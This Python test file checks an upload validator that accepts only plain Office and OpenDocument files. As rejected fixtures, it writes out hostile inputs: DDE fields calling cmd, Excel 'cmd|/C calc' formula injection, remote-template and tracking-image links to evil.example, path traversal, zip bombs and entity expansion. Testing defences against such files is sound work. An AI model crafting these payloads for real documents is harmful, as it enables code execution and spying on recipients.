"""Office documents: only what is plain paper is taken, whatever it is called."""

import io
import tracemalloc
import zipfile
from contextlib import suppress

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from shared.files import DOCX, ODS, ODT, XLSX
from shared.office import OLE, BadOffice, check_office
from tests.shared.office_papers import MAIN, SHEET, a_docx, an_odf, an_xlsx, packed, relation

LINK = relation("hyperlink", "https://example.vn")
MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"


@pytest.mark.parametrize(
    ("data", "media_type"),
    [
        (a_docx(), DOCX),
        (a_docx(word___rels__document_dot_xml_dot_rels=LINK), DOCX),
        (a_docx("<w:instrText>PAGE</w:instrText>"), DOCX),
        (a_docx('<w:instrText>HYPERLINK "https://example.vn/LINK/DDE"</w:instrText>'), DOCX),
        (an_xlsx(), XLSX),
        (an_xlsx(xl__printerSettings__printerSettings1_dot_bin=b"\0"), XLSX),
        (an_odf(), ODT),
        (an_odf("spreadsheet"), ODS),
        (an_odf(content='<a xlink:href="https://example.vn"/><image xlink:href="Pictures/a.png"/><scripts/>'), ODT),
        (an_odf(Configurations2__accelerator__current_dot_xml=b"<x/>"), ODT),
    ],
)
def test_plain_paper_is_taken_by_its_structure(data: bytes, media_type: str) -> None:
    assert check_office(data) == media_type


DTD = '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><x>&b;</x>'


@pytest.mark.parametrize(
    "data",
    [
        a_docx(main=MACRO),
        a_docx(word__vbaProject_dot_bin=OLE),
        a_docx(word__embeddings__sheet_dot_xlsx=an_xlsx()),
        a_docx(word__activeX__a_dot_xml="<x/>"),
        a_docx(word__media__tool_dot_exe=b"MZ"),
        a_docx(word__page_dot_html="<script>alert(1)</script>"),
        a_docx(word___rels__settings_dot_xml_dot_rels=relation("attachedTemplate", "https://evil.example/a.dotm")),
        a_docx(word___rels__document_dot_xml_dot_rels=relation("image", "https://evil.example/seen.png")),
        a_docx(word___rels__document_dot_xml_dot_rels=relation("hyperlink", "file://host/share")),
        a_docx(word___rels__document_dot_xml_dot_rels=relation("hyperlink", "javascript:alert(1)")),
        a_docx(word___rels__document_dot_xml_dot_rels=relation("aFChunk", "a.xml", "Internal")),
        a_docx(word___rels__document_dot_xml_dot_rels=relation("oleObject", "a.xml", "Internal")),
        a_docx("<w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\cmd.exe</w:instrText>"),
        a_docx("<w:instrText>INCLUDEPICTURE https://evil.example/a.png</w:instrText>"),
        a_docx('<w:fldSimple w:instr="DDE cmd"/>'),
        a_docx(word__settings_dot_xml=DTD),
        an_xlsx("cmd|'/C calc'!A0"),
        an_xlsx("WEBSERVICE(&quot;https://evil.example&quot;)"),
        an_xlsx(xl__externalLinks__externalLink1_dot_xml="<x/>"),
        an_xlsx(xl__connections_dot_xml="<x/>"),
        an_odf(Basic__Standard__Module1_dot_xml="<x/>"),
        an_odf(Scripts__python__a_dot_py="print()"),
        an_odf(content="<script>x()</script>"),
        an_odf(content="<event-listener/>"),
        an_odf(content='<image xlink:href="https://evil.example/seen.png"/>'),
        an_odf(content='<a xlink:href="vnd.sun.star.script:x"/>'),
        an_odf(content='<image xlink:href="../../secret.png"/>'),
        an_odf(content="<dde-source/>"),
        an_odf("spreadsheet", content="<table-source/>"),
        an_odf(**{"Object 1__content_dot_xml": "<x/>"}),
    ],
)
def test_what_acts_or_reaches_out_is_refused(data: bytes) -> None:
    with pytest.raises(BadOffice) as refused:
        check_office(data)

    assert refused.value.problem == "active"


BOTH = f'<T><O ContentType="{MAIN}"/><O ContentType="{SHEET}"/></T>'


def a_bomb() -> bytes:
    return a_docx(word__media__zeros_dot_png=bytes(50 * 2**20))


def many_entries() -> bytes:
    return a_docx(**{f"word__media__{n}_dot_png": b"" for n in range(2001)})


def twice_the_same() -> bytes:
    out = io.BytesIO(a_docx())
    with zipfile.ZipFile(out, "a") as package, pytest.warns(UserWarning, match="Duplicate"):
        package.writestr("word/document.xml", "<other/>")
    return out.getvalue()


def locked() -> bytes:
    data = bytearray(a_docx())
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = data.find(mark)
        data[place + at] |= 1
    return bytes(data)


FIELD = "<w:t xmlns:w='w'><w:instrText>DDEAUTO cmd</w:instrText></w:t>"
MAIN_AS_TXT = f'<T><Override PartName="/WORD/document%2Etxt" ContentType="{MAIN}"/></T>'


@pytest.mark.parametrize(
    "data",
    [
        a_docx(word__settings_dot_XML=FIELD),
        a_docx(word___rels__settings_dot_xml_dot_RELS=relation("attachedTemplate", "https://evil.example/a.dotm")),
        a_docx(word__document_dot_txt=FIELD, **{"[Content_Types]_dot_xml": MAIN_AS_TXT}),
        a_docx(
            word__media__a_dot_png=FIELD,
            **{"[Content_Types]_dot_xml": MAIN_AS_TXT.replace("document%2Etxt", "media/A.png")},
        ),
        a_docx(word__notes_dot_txt="nobody knows what this is"),
        a_docx(word__notes="nor this"),
        an_odf(pages_dot_XML="<event-listener/>"),
        an_odf(
            pages_dot_txt="<event-listener/>",
            manifest='<m><file-entry full-path="pages.txt" media-type="text/xml"/></m>',
        ),
    ],
)
def test_a_part_is_read_as_what_it_is_whatever_it_is_called(data: bytes) -> None:
    with pytest.raises(BadOffice) as refused:
        check_office(data)

    assert refused.value.problem == "active"


def test_a_small_upload_with_millions_of_elements_is_refused() -> None:
    data = a_docx(**{f"word__header{n}_dot_xml": f"<w>{'<b/>' * 240_000}</w>" for n in range(12)})
    assert len(data) < 150_000

    with pytest.raises(BadOffice) as refused:
        check_office(data)

    assert refused.value.problem == "too_large"


def test_what_was_read_of_a_part_is_not_kept() -> None:
    data = a_docx("<w:b/>" * 100_000)
    tracemalloc.start()
    try:
        check_office(data)
        most = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()

    assert most < 6 * 2**20


@pytest.mark.parametrize(
    ("data", "problem"),
    [
        (a_docx("<w:r>" * 600 + "</w:r>" * 600), "too_large"),
        (a_docx(f"<w:t>{'a' * 9 * 2**20}</w:t>"), "too_large"),
        (OLE + bytes(600), "locked"),
        (locked(), "locked"),
        (an_odf(manifest="<m><encryption-data/></m>"), "locked"),
        (a_bomb(), "too_large"),
        (many_entries(), "too_large"),
        (twice_the_same(), "broken"),
        (a_docx()[:-40], "broken"),
        (a_docx() + b"<script>alert(1)</script>", "broken"),
        (a_docx(**{"..__..__evil_dot_xml": "<x/>"}), "broken"),
        (a_docx("<w:t>&"), "broken"),
        (packed({"readme.txt": b"a zip of something"}), "unknown"),
        (a_docx(main="application/xml"), "unknown"),
        (an_odf("text-template"), "unknown"),
        (a_docx(**{"[Content_Types]_dot_xml": BOTH}), "unknown"),
        (b"%PDF-1.7", "unknown"),
        (b"", "unknown"),
    ],
)  # fmt: skip
def test_what_is_no_document_is_refused_with_its_reason(data: bytes, problem: str) -> None:
    with pytest.raises(BadOffice) as refused:
        check_office(data)

    assert refused.value.problem == problem


def test_a_polyglot_of_picture_and_document_is_no_document() -> None:
    with pytest.raises(BadOffice):
        check_office(b"\xff\xd8\xff\xe0" + a_docx())


@settings(deadline=None)  # a machine may be busy with others
@given(st.data())
def test_a_damaged_document_never_ends_in_an_unexpected_error(data: st.DataObject) -> None:
    whole = bytearray(a_docx())
    for _ in range(data.draw(st.integers(1, 4))):
        whole[data.draw(st.integers(4, len(whole) - 1))] = data.draw(st.integers(0, 255))

    with suppress(BadOffice):
        assert check_office(bytes(whole)) == DOCX
